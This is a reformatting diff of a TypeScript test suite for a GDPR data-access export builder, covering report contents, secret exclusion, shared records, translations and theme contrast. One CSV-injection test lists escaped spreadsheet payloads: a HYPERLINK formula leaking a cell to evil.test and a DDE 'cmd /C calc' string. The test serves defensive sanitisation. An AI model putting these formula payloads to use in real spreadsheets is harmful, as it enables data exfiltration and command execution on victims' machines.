@@ -19,7 +19,13 @@ const records: AccessRecord[] = [
       { name: 'password', category: 'account.password', value: '$argon2id$secret' },
     ],
   },
-  { store: 'crm', table: 'orders', key: '7', restricted: true, columns: [{ name: 'address', category: 'contact.postal-address', value: 'Kerkstraat 1\nGent' }] },
+  {
+    store: 'crm',
+    table: 'orders',
+    key: '7',
+    restricted: true,
+    columns: [{ name: 'address', category: 'contact.postal-address', value: 'Kerkstraat 1\nGent' }],
+  },
 ];
 
 describe('the access package', () => {
@@ -38,21 +44,51 @@ describe('the access package', () => {
         ],
       },
     ];
-    const built = buildPackage({ charter: buildCharter(), language: 'en', reference: 'R-AAAA-BBBB', generatedAt: new Date('2025-03-01T10:00:00Z'), records: hostile, consents: { current: [], events: [] } });
+    const built = buildPackage({
+      charter: buildCharter(),
+      language: 'en',
+      reference: 'R-AAAA-BBBB',
+      generatedAt: new Date('2025-03-01T10:00:00Z'),
+      records: hostile,
+      consents: { current: [], events: [] },
+    });
     // Buffer keeps the byte-order mark (TextDecoder, behind strFromU8, drops it).
     const csv = Buffer.from(unzipSync(built.bytes)['tables/crm.notes.csv']!).toString('utf8');
     expect(csv.startsWith('\uFEFF')).toBe(true);
     expect(parseCsv(csv)).toEqual([
       ['_key', '_restricted', '_shared', 'link', 'cmd', 'at', 'amount'],
-      ['9', 'false', 'false', `'=HYPERLINK("http://evil.test/?"&A1,"Click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", '-12.5'],
+      [
+        '9',
+        'false',
+        'false',
+        `'=HYPERLINK("http://evil.test/?"&A1,"Click")`,
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        '-12.5',
+      ],
     ]);
   });
 
   it('holds a report in the requester’s language, JSON and one CSV per table, and never a secret', () => {
-    const built = buildPackage({ charter: buildCharter(), language: 'nl', reference: 'R-AAAA-BBBB', generatedAt: new Date('2025-03-01T10:00:00Z'), records, consents: { current: [], events: [] } });
+    const built = buildPackage({
+      charter: buildCharter(),
+      language: 'nl',
+      reference: 'R-AAAA-BBBB',
+      generatedAt: new Date('2025-03-01T10:00:00Z'),
+      records,
+      consents: { current: [], events: [] },
+    });
     const files = unzipSync(built.bytes);
-    expect(Object.keys(files).sort()).toEqual(['consents.json', 'data.json', 'report.html', 'tables/crm.customers.csv', 'tables/crm.orders.csv']);
-    const all = Object.values(files).map((f) => strFromU8(f)).join('\n');
+    expect(Object.keys(files).sort()).toEqual([
+      'consents.json',
+      'data.json',
+      'report.html',
+      'tables/crm.customers.csv',
+      'tables/crm.orders.csv',
+    ]);
+    const all = Object.values(files)
+      .map((f) => strFromU8(f))
+      .join('\n');
     expect(all).not.toContain('$argon2id$secret');
     expect(all).not.toContain('account.password');
     const report = strFromU8(files['report.html']!);
@@ -62,7 +98,9 @@ describe('the access package', () => {
     expect(report).toContain('Mailer SA');
     expect(report).toContain('An &quot;the first&quot;, Peeters');
     expect(report).toContain('beperkt (art. 18)');
-    expect(Buffer.from(files['tables/crm.customers.csv']!).toString('utf8')).toBe('\uFEFF_key,_restricted,_shared,email,name\r\n1,false,false,an@example.be,"An ""the first"", Peeters"\r\n');
+    expect(Buffer.from(files['tables/crm.customers.csv']!).toString('utf8')).toBe(
+      '\uFEFF_key,_restricted,_shared,email,name\r\n1,false,false,an@example.be,"An ""the first"", Peeters"\r\n',
+    );
     expect(built.counts).toEqual({ 'crm.customers': 1, 'crm.orders': 1 });
     // A record shared with another person says so in the report, the CSV and the JSON.
     const shared = buildPackage({
@@ -70,15 +108,35 @@ describe('the access package', () => {
       language: 'en',
       reference: 'R-AAAA-BBBB',
       generatedAt: new Date('2025-03-01T10:00:00Z'),
-      records: [{ store: 'crm', table: 'messages', key: '5', restricted: false, shared: true, columns: [{ name: 'body', category: 'communication.message', value: 'hello' }] }],
+      records: [
+        {
+          store: 'crm',
+          table: 'messages',
+          key: '5',
+          restricted: false,
+          shared: true,
+          columns: [{ name: 'body', category: 'communication.message', value: 'hello' }],
+        },
+      ],
       consents: { current: [], events: [] },
     });
     const sharedFiles = unzipSync(shared.bytes);
-    expect(strFromU8(sharedFiles['report.html']!)).toContain('shared with another person: their data in it is left out (Art. 15(4))');
-    expect(Buffer.from(sharedFiles['tables/crm.messages.csv']!).toString('utf8')).toBe('\uFEFF_key,_restricted,_shared,body\r\n5,false,true,hello\r\n');
+    expect(strFromU8(sharedFiles['report.html']!)).toContain(
+      'shared with another person: their data in it is left out (Art. 15(4))',
+    );
+    expect(Buffer.from(sharedFiles['tables/crm.messages.csv']!).toString('utf8')).toBe(
+      '\uFEFF_key,_restricted,_shared,body\r\n5,false,true,hello\r\n',
+    );
     expect(strFromU8(sharedFiles['data.json']!)).toContain('"shared": true');
     // Same content, same bytes.
-    const again = buildPackage({ charter: buildCharter(), language: 'nl', reference: 'R-AAAA-BBBB', generatedAt: new Date('2025-03-01T10:00:00Z'), records, consents: { current: [], events: [] } });
+    const again = buildPackage({
+      charter: buildCharter(),
+      language: 'nl',
+      reference: 'R-AAAA-BBBB',
+      generatedAt: new Date('2025-03-01T10:00:00Z'),
+      records,
+      consents: { current: [], events: [] },
+    });
     expect(again.sha256).toBe(built.sha256);
   });
 });
@@ -86,7 +144,9 @@ describe('the access package', () => {
 describe('texts and theme', () => {
   it('has every text in every language, none empty', () => {
     const keys = (value: unknown, prefix = ''): string[] =>
-      value && typeof value === 'object' && !Array.isArray(value) ? Object.entries(value).flatMap(([k, v]) => keys(v, `${prefix}${k}.`)) : [prefix];
+      value && typeof value === 'object' && !Array.isArray(value)
+        ? Object.entries(value).flatMap(([k, v]) => keys(v, `${prefix}${k}.`))
+        : [prefix];
     const english = keys(rightsTexts.en).sort();
     for (const language of ['nl', 'fr', 'de'] as const) {
       expect(keys(rightsTexts[language]).sort()).toEqual(english);
@@ -96,8 +156,14 @@ describe('texts and theme', () => {
 
   it('uses the site colours only where they keep AA contrast', () => {
     expect(contrast('#ffffff', '#000000')).toBeCloseTo(21, 0);
-    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { primaryColor: '#0f5132' } })).toContain('--accent: #0f5132');
-    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { primaryColor: '#ffee00' } })).not.toContain('--accent');
-    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { backgroundColor: '#102030' } })).toContain('--header-fg: #ffffff');
+    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { primaryColor: '#0f5132' } })).toContain(
+      '--accent: #0f5132',
+    );
+    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { primaryColor: '#ffee00' } })).not.toContain(
+      '--accent',
+    );
+    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { backgroundColor: '#102030' } })).toContain(
+      '--header-fg: #ffffff',
+    );
   });
 });
